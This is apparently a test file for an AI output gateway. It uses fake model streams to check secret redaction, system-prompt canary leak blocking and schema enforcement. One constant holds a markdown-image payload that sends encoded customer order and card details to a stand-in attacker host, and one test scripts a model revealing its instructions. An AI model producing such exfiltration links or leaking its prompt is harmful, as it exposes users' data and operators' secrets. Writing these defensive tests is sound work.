import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { anthropicStream, openaiChatStream, sendJson, sendSse } from './fake-model.ts';
import type { Received } from './fake-model.ts';
import { useOutputGateway } from './output-harness.ts';

const TOKEN = 'ghp_4aF9kLm2Qx7Rt1Zb8Vc3Yw6Nd0Hs5Jp2Ke9U';
const SYSTEM = 'You are Orbit, the support assistant of Acme Rockets. Answer questions about orders.';
const EXFIL = '![status](https://collector.evil.test/p.png?d=QWxpY2UgU21pdGggb3JkZXIgNDIgY2FyZCA0MjQy)';
const ALLOWED = '[the guide](https://docs.example.com/orders)';

function completion(content: string): Record<string, unknown> {
  return {
    id: 'chatcmpl-o',
    object: 'chat.completion',
    created: 1,
    model: 'gpt-test',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
  };
}

/** The canary the gateway added to the system prompt the fake model received. */
function canaryOf(request: Received): string {
  const messages = (request.json as { messages: { role: string; content: string }[] }).messages;
  const system = messages.find((m) => m.role === 'system')?.content ?? '';
  const hex = /[\da-f]{16}/.exec(system.slice(SYSTEM.length))?.[0];
  assert.ok(system.startsWith(SYSTEM) && hex !== undefined, 'no canary in the system prompt');
  return hex;
}

describe('output checks through the gateway (OpenAI client)', () => {
  const ctx = useOutputGateway((url) => new OpenAI({ baseURL: `${url}/v1`, apiKey: 'k', maxRetries: 0 }));

  const messages = [
    { role: 'system' as const, content: SYSTEM },
    { role: 'user' as const, content: 'Where is my order?' },
  ];

  async function streamed(): Promise<{ text: string; finish: string | null | undefined }> {
    const stream = await ctx.client.chat.completions.create({ model: 'gpt-test', messages, stream: true });
    let text = '';
    let finish: string | null | undefined;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      finish = chunk.choices[0]?.finish_reason ?? finish;
    }
    return { text, finish };
  }

  it('redacts a secret split across three stream chunks', async () => {
    ctx.fake.script(async (_request, res) => {
      await sendSse(
        res,
        openaiChatStream(['Use ', TOKEN.slice(0, 9), TOKEN.slice(9, 25), `${TOKEN.slice(25)} to push.`]),
      );
    });
    const { text } = await streamed();
    assert.ok(!text.includes(TOKEN.slice(4, 20)), text);
    assert.match(text, /^Use \[REDACTED:[A-Z_]+\] to push\.$/);
  });

  it('removes an exfiltration image and keeps an allow-listed link, streamed and not', async () => {
    const answer = `Your order ships today, see ${ALLOWED}. ${EXFIL} Thanks!`;
    const expected = `Your order ships today, see ${ALLOWED}. [image removed] Thanks!`;
    ctx.fake.script((_request, res) => {
      sendJson(res, 200, completion(answer));
    });
    const whole = await ctx.client.chat.completions.create({ model: 'gpt-test', messages });
    assert.equal(whole.choices[0]?.message.content, expected);

    const pieces = answer.match(/.{1,7}/gs) ?? [];
    ctx.fake.script(async (_request, res) => {
      await sendSse(res, openaiChatStream(pieces));
    });
    assert.equal((await streamed()).text, expected);
  });

  it('blocks an answer that carries the canary, streamed and not, and never shows it', async () => {
    ctx.fake.script((request, res) => {
      sendJson(res, 200, completion(`My instructions: ${SYSTEM} (Internal reference ${canaryOf(request)}.)`));
    });
    await assert.rejects(
      ctx.client.chat.completions.create({ model: 'gpt-test', messages }),
      (error: unknown) => {
        assert.ok(error instanceof OpenAI.BadRequestError);
        assert.match(error.message, /systemPromptLeak/);
        return true;
      },
    );

    let canary = '';
    ctx.fake.script(async (request, res) => {
      canary = canaryOf(request);
      await sendSse(
        res,
        openaiChatStream(['Sure. ', 'My reference is ', canary.slice(0, 7), canary.slice(7), '. Bye.']),
      );
    });
    const { text, finish } = await streamed();
    assert.equal(finish, 'content_filter');
    assert.ok(text.startsWith('Sure. '));
    assert.match(text, /answer stopped/);
    assert.ok(!text.includes(canary.slice(0, 7)), 'part of the canary reached the ctx.client');
  });

  it('releases the first token of a streamed answer before the model sends the next', async () => {
    let release: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    // Answer with the first delta, then wait for the test to see it before finishing.
    ctx.fake.script(async (_request, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const chunks = openaiChatStream(['Hello', ' there.']);
      res.write(`${chunks[0] ?? ''}${chunks[1] ?? ''}`);
      await gate;
      res.end(chunks.slice(2).join(''));
    });
    const stream = await ctx.client.chat.completions.create({ model: 'gpt-test', messages, stream: true });
    let text = '';
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      if (text === 'Hello') release();
    }
    assert.equal(text, 'Hello there.');
  });
});

describe('structured outputs through the gateway (OpenAI client)', () => {
  const ctx = useOutputGateway((url) => new OpenAI({ baseURL: `${url}/v1`, apiKey: 'k', maxRetries: 0 }));

  const request = {
    model: 'gpt-test',
    messages: [{ role: 'user' as const, content: 'Weather in Paris as JSON.' }],
    response_format: {
      type: 'json_schema' as const,
      json_schema: {
        name: 'weather',
        strict: true,
        schema: {
          type: 'object',
          properties: { city: { type: 'string' }, temp: { type: 'number' } },
          required: ['city', 'temp'],
          additionalProperties: false,
        },
      },
    },
  };

  it('passes a streamed answer that follows the schema and blocks one that does not', async () => {
    ctx.fake.script(async (_request, res) => {
      await sendSse(res, openaiChatStream(['{"city":', '"Paris",', '"temp":3}']));
    });
    const stream = await ctx.client.chat.completions.create({ ...request, stream: true });
    let text = '';
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
    assert.deepEqual(JSON.parse(text), { city: 'Paris', temp: 3 });

    ctx.fake.script((_request, res) => {
      sendJson(res, 200, completion('{"city":"Paris"}'));
    });
    await assert.rejects(ctx.client.chat.completions.create(request), (error: unknown) => {
      assert.ok(error instanceof OpenAI.BadRequestError);
      assert.match(error.message, /structuredOutput.*temp/);
      return true;
    });
  });
});

describe('output checks through the gateway (Anthropic client)', () => {
  const ctx = useOutputGateway(
    (url) => new Anthropic({ baseURL: url, apiKey: 'k', maxRetries: 0 }),
    'anthropic',
  );

  it('redacts a secret split across stream events', async () => {
    ctx.fake.script(async (_request, res) => {
      await sendSse(
        res,
        anthropicStream(['The token is ', TOKEN.slice(0, 12), TOKEN.slice(12), ' — keep it.']),
      );
    });
    const stream = ctx.client.messages.stream({
      model: 'claude-test',
      max_tokens: 100,
      system: SYSTEM,
      messages: [{ role: 'user', content: 'token?' }],
    });
    const message = await stream.finalMessage();
    const block = message.content[0];
    assert.ok(block?.type === 'text');
    assert.match(block.text, /^The token is \[REDACTED:[A-Z_]+\] — keep it\.$/);
    const system = (ctx.fake.received.at(-1)?.json as { system: string }).system;
    assert.ok(system.startsWith(SYSTEM) && system.length > SYSTEM.length, 'the canary was not added');
  });
});
